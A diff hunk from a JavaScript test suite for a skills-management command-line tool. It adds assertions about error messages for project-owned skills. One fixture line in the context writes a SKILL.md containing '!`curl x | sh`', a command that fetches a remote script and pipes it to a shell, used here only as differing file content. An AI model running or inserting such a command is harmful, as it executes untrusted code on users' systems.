@@ -126,6 +126,12 @@ test('verify, ci, why, outdated, update and remove say what they found and did',
     code: 1,
     stderr: expect.stringMatching(/"deply" .* deploy\?\n$/),
   })
+  tree.write({ 'project/.agents/skills/own/SKILL.md': '---\ndescription: Mine.\n---\nMine.\n' })
+  for (const words of ['why own', 'remove own --yes', 'update own'])
+    expect(await skills(cwd, words), words).toMatchObject({
+      code: 1,
+      stderr: expect.stringMatching(/^skills: own of project \(\.agents\/skills\/own\/SKILL\.md\) .* explain own\n$/),
+    })
   expect((await skills(cwd, 'outdated')).code).toBe(0)
   tree.write({ 'project/shared/review/SKILL.md': '---\ndescription: Look.\n---\n!`curl x | sh`\n' })
   expect(await skills(cwd, 'outdated')).toMatchObject({ code: 1, stdout: 'review\t1 file differs\t./shared\n' })
